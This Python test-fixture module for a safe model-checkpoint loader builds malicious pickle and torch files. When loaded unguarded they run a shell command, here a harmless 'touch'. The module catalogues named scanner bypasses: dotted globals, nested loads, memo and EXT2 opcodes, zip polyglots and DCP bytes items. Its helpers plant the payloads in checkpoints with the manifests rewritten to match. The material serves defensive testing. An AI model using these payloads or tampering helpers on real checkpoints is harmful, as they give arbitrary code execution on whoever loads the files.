"""Live payloads for the safe-loading tests: pickles and torch files that run `touch <marker>`
when loaded unguarded, in many shapes, and helpers that plant them in a real checkpoint with its
manifest rewritten to match (the README's threat model: whoever writes a checkpoint can rewrite
its manifest too)."""

from __future__ import annotations

import builtins
import hashlib
import io
import json
import os
import pickle
import struct
import subprocess
from collections import OrderedDict

import torch

EXT_CODE = 0xD157  # an extension code for the EXT2 opcode, registered only while a test needs it


class Call:
    """Pickles as `fn(*args)`; `fn` and the args may be Calls themselves (nested reduces)."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args

    def __call__(self, *args):  # the pickler wants a callable where a reduce's function goes
        raise NotImplementedError


# --- a tiny assembler for streams pickle.dumps cannot write ------------------------------------


def text_op(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE


def stack_global_op(module: str, name: str) -> bytes:
    return text_op(module) + text_op(name) + b"\x93"  # STACK_GLOBAL


def call1_op(fn: bytes, arg: bytes) -> bytes:
    return fn + arg + b"\x85R"  # TUPLE1, REDUCE


PROTO4 = b"\x80\x04"


def raw_variants(marker_dir: str) -> dict[str, bytes]:
    """Raw pickles that run `touch <marker_dir>/<name>` when unpickled."""

    def cmd(name: str) -> str:
        return f"touch {os.path.join(marker_dir, name)}"

    found: dict[str, bytes] = {}
    for protocol in range(6):
        found[f"system-p{protocol}"] = pickle.dumps(Call(os.system, cmd(f"system-p{protocol}")), protocol=protocol)
        found[f"nested-p{protocol}"] = pickle.dumps(
            {"state": [OrderedDict(a=(1, {"deep": Call(os.system, cmd(f"nested-p{protocol}"))}))]}, protocol=protocol)
        found[f"eval-p{protocol}"] = pickle.dumps(
            Call(builtins.eval, f"__import__('os').system({cmd(f'eval-p{protocol}')!r})"), protocol=protocol)
        found[f"getattr-chain-p{protocol}"] = pickle.dumps(
            Call(Call(getattr, Call(builtins.__import__, "os"), "system"), cmd(f"getattr-chain-p{protocol}")),
            protocol=protocol)
        found[f"subprocess-p{protocol}"] = pickle.dumps(
            Call(subprocess.call, ["touch", os.path.join(marker_dir, f"subprocess-p{protocol}")]), protocol=protocol)
    # Bypass (a): a dotted name under a module the old allow-list took whole.
    for module, name in (("torch.storage", "torch.os.system"), ("torch._utils", "torch.os.system"),
                         ("torch", "serialization.os.system")):
        key = f"dotted-{module}-{name}"
        found[key] = PROTO4 + call1_op(stack_global_op(module, name), text_op(cmd(key))) + b"."
    key = "dotted-global-opcode"
    found[key] = PROTO4 + b"ctorch.storage\ntorch.os.system\n" + text_op(cmd(key)) + b"\x85R."
    # Bypass (b): an allowed-looking function that unpickles an inner pickle the scan never sees.
    inner = io.BytesIO()
    torch.save(Call(os.system, cmd("load-from-bytes")), inner)
    found["load-from-bytes"] = pickle.dumps(Call(torch.storage._load_from_bytes, inner.getvalue()), protocol=2)
    # The memo: the global is stored, popped, and fetched again before it is called.
    key = "memo"
    found[key] = (b"\x80\x02cposix\nsystem\nq\x000" + b"h\x00" + text_op(cmd(key)) + b"\x85R.")  # BINPUT, POP, BINGET
    # Protocol 0 INST and protocol 1 OBJ: the class is imported by the opcode itself.
    found["inst"] = b"(S'" + cmd("inst").encode() + b"'\nios\nsystem\n."
    found["obj"] = b"(cos\nsystem\nS'" + cmd("obj").encode() + b"'\no."
    # EXT2: the global comes from the extension registry, not from the stream.
    key = "ext"
    found[key] = b"\x80\x02\x83" + struct.pack("<H", EXT_CODE) + text_op(cmd(key)) + b"\x85R."
    return found


def torch_variants(marker_dir: str) -> dict[str, bytes]:
    """Torch files that run `touch <marker_dir>/<name>` when loaded with torch.load(weights_only=False)."""

    def saved(obj, **kwargs) -> bytes:
        buffer = io.BytesIO()
        torch.save(obj, buffer, **kwargs)
        return buffer.getvalue()

    def payload(name: str):
        return Call(os.system, f"touch {os.path.join(marker_dir, name)}")

    benign = saved({"w": torch.ones(3), "step": 1})
    return {
        "zip-data-pkl": saved({"w": torch.ones(2), "hook": payload("zip-data-pkl")}),
        "zip-nested": saved([OrderedDict(state={"exp_avg": torch.zeros(2), "x": [payload("zip-nested")]})]),
        "zip-load-from-bytes": saved(Call(torch.storage._load_from_bytes, saved(payload("zip-load-from-bytes")))),
        "legacy-format": saved({"w": torch.ones(2), "x": payload("legacy-format")}, _use_new_zipfile_serialization=False),
        # Bypass (c): a raw pickle with a zip appended; the loader looks at the first bytes.
        "polyglot-raw-then-zip": pickle.dumps(payload("polyglot-raw-then-zip"), protocol=2) + benign,
    }


def rewrite_in_checkpoint(checkpoint: str, relative: str, data: bytes) -> None:
    """Replace one file of a committed checkpoint and update its manifest entry to match."""
    path = os.path.join(checkpoint, relative)
    with open(path, "wb") as f:
        f.write(data)
    with open(os.path.join(checkpoint, "MANIFEST.json")) as f:
        manifest = json.load(f)
    manifest["files"][relative] = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    with open(os.path.join(checkpoint, "MANIFEST.json"), "w") as f:
        json.dump(manifest, f)


def plant_dcp_bytes_item(checkpoint: str, marker: str) -> str:
    """Bypass (d): DCP's `.metadata`, rebuilt only from DCP's own classes, marks one model tensor
    as a "bytes" item stored in a `.distcp` file, where a torch.save'd payload is appended. DCP's
    default planner loads bytes items with torch.load(weights_only=False). Returns the item's key."""
    from torch.distributed.checkpoint.filesystem import _StorageInfo
    from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex

    state = os.path.join(checkpoint, "state")
    with open(os.path.join(state, ".metadata"), "rb") as f:
        metadata = pickle.load(f)  # our own test checkpoint: trusted here
    fqn = next(k for k in metadata.state_dict_metadata if k.startswith("model."))
    shard = sorted(n for n in os.listdir(state) if n.endswith(".distcp"))[0]
    with open(os.path.join(state, shard), "rb") as f:
        shard_bytes = f.read()
    payload = io.BytesIO()
    torch.save(Call(os.system, f"touch {marker}"), payload)
    metadata.state_dict_metadata[fqn] = BytesStorageMetadata()
    metadata.storage_data[MetadataIndex(fqn)] = _StorageInfo(shard, len(shard_bytes), len(payload.getvalue()))
    rewrite_in_checkpoint(checkpoint, f"state/{shard}", shard_bytes + payload.getvalue())
    rewrite_in_checkpoint(checkpoint, "state/.metadata", pickle.dumps(metadata))
    return fqn


# The file each way of poisoning a run's checkpoint (poison_checkpoint) rewrites: what the loader
# must name when it refuses the checkpoint.
POISONED_FILES = {
    "dcp-bytes-item": "state/.metadata",  # DCP (FSDP): a "bytes" item DCP would unpickle unguarded
    "polyglot-pt": "state/zero/zero_pp_rank_1_mp_rank_00_optim_states.pt",  # ZeRO: rank 1's optimizer file
}


def poison_checkpoint(checkpoint: str, kind: str, marker_dir: str) -> str:
    """Tamper with a committed checkpoint as an attacker who can write the run directory would, its
    manifest rewritten to match: `dcp-bytes-item` (plant_dcp_bytes_item), or `polyglot-pt` (ZeRO
    rank 1's optimizer file replaced by a raw pickle with a zip appended: torch.load reads the raw
    pickle, a scan that asked zipfile sees the zip). A payload that runs leaves a file in
    `marker_dir`. Returns the file rewritten (POISONED_FILES)."""
    if kind == "dcp-bytes-item":
        plant_dcp_bytes_item(checkpoint, os.path.join(marker_dir, kind))
    else:
        rewrite_in_checkpoint(checkpoint, POISONED_FILES[kind], torch_variants(marker_dir)["polyglot-raw-then-zip"])
    return POISONED_FILES[kind]
